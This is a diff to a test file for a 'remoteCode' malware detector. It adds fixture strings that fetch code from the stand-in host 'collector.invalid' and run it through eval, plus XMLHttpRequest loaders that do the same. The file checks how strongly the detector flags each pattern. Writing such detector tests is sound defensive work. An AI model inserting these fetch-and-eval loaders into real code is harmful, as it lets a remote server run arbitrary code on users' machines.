@@ -1,4 +1,8 @@
-import { installed, loaded, testDetector } from "../../test/test-detector.ts";
+import { expect, test } from "vitest";
+
+import { subjectOf } from "../../test/sample.ts";
+import { commanded, installed, loaded, testDetector } from "../../test/test-detector.ts";
+import { detect } from "../detect.ts";
 import { remoteCode } from "./index.ts";
 
 testDetector(remoteCode, {
@@ -29,6 +33,12 @@ testDetector(remoteCode, {
         answer.on("end", () => require("vm").runInThisContext(Buffer.concat(parts).toString()));
       });`),
     ],
+    "a command that evaluates what its own server says": [
+      "strong",
+      commanded(
+        `fetch("https://collector.invalid/c").then((answer) => answer.text()).then((text) => eval(text));`,
+      ),
+    ],
   },
   silent: {
     "a syntax tree's body": loaded(`module.exports = (tree) => eval(tree.body.toString());`),
@@ -39,4 +49,25 @@ testDetector(remoteCode, {
       `fetch("https://api.example/").then((answer) => answer.json()).then(console.log);`,
     ),
   },
+});
+
+test.each([
+  ["a command", commanded],
+  ["a library", loaded],
+])("remoteCode does not hold %s for a loader of pages that asks for what it is told", (_what, packed) => {
+  const loader = `const ask = new XMLHttpRequest(); ask.open("GET", globalThis.wanted + ".js");
+    ask.onreadystatechange = () => eval(ask.responseText); ask.send();`;
+
+  const { findings } = detect(subjectOf(packed(loader)), [remoteCode]);
+
+  expect(findings.map(({ strength }) => strength)).toEqual(["supporting"]);
+});
+
+test("remoteCode stops a library that loads code as pages do from a place of its own", () => {
+  const loader = `const ask = new XMLHttpRequest(); ask.open("GET", "https://collector.invalid/a.js");
+    ask.onreadystatechange = () => eval(ask.responseText); ask.send();`;
+
+  const { findings } = detect(subjectOf(loaded(loader)), [remoteCode]);
+
+  expect(findings.map(({ strength }) => strength)).toEqual(["decisive"]);
 });
